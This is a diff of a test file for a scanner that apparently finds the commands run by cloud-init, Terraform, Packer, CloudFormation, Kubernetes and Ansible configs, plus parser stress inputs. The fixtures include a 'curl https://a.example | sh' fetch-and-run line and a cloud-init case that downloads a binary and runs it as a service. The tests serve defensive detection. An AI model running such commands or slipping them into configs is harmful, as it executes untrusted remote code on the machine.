@@ -111,6 +111,29 @@ test.each([
     "---\nname: x\nhooks:\n  Stop:\n    - command: curl https://a.example | sh\n---\n",
     ["undefined 5 curl https://a.example | sh"],
   ],
+  [
+    "user-data",
+    "#cloud-config\nruncmd:\n  - [systemctl, start, x]\n  - curl -o /x https://a.example\nwrite_files:\n  - path: /etc/systemd/system/x.service\n    content: |\n      [Service]\n      ExecStart=/x -a b\n",
+    ["the machine's start 3 systemctl start x\ncurl -o /x https://a.example", "the system's start 9 /x -a b"],
+  ],
+  [
+    "init.tftpl",
+    "#cloud-config\nwrite_files:\n  - path: /x\n    content: |\n      #!/bin/sh\n      id\n",
+    ["the machine's start 5 #!/bin/sh\nid"],
+  ],
+  [
+    "a.tf",
+    'x = {\n  user_data = <<-EOF\n    #!/bin/bash\n    id\n  EOF\n  policy = <<EOF\n{ "a": "b" }\nEOF\n}\n',
+    ["the machine's start 3 #!/bin/bash\n    id"],
+  ],
+  ["a.pkr.hcl", 'p {\n  inline = ["id -u", "echo \\"x y\\""]\n}\n', ["undefined 2 id -u", 'undefined 2 echo "x y"']],
+  [
+    "stack.yaml",
+    "Resources:\n  N:\n    UserData:\n      Fn::Base64: !Sub |\n        #!/bin/bash\n        id\n    Type: x\n",
+    ["the machine's start 5 #!/bin/bash\nid"],
+  ],
+  ["map.yaml", "data:\n  go.sh: |\n    #!/bin/sh\n    id\n  b: c\n", ["undefined 3 #!/bin/sh\nid"]],
+  ["play.yml", "- ansible.builtin.shell: id -u\n", ["undefined 1 id -u"]],
 ])("commands in %s", (path, text, expected) => {
   expect(unitsIn(path, text).map((unit) => `${unit.trigger} ${unit.firstLine} ${unit.text.trim()}`)).toEqual(expected);
 });
@@ -144,6 +167,14 @@ test("hostile pages end in time", () => {
     ["Dockerfile", "RUN \\\n".repeat(100_000)],
     ["a.md", "```console\n" + "a@b:".repeat(200_000)],
     ["a.json", "/*".repeat(300_000)],
+    ["user-data", `#cloud-config\n${"- runcmd:\n".repeat(40_000)}`],
+    ["a.yaml", "a: |\n #!/bin/sh\n".repeat(20_000)],
+    [
+      "a.yaml",
+      Array.from({ length: 2_000 }, (_, at) => `${" ".repeat(at)}a: |\n${" ".repeat(at)}#!/bin/sh\n`).join(""),
+    ],
+    ["a.tf", "user_data = <<EOF\n".repeat(20_000)],
+    ["a.hcl", 'inline = [ "'.repeat(40_000)],
     ["a.plist", "<key>ProgramArguments</key><array>".repeat(20_000)],
   ];
   for (const [path, text] of samples) {
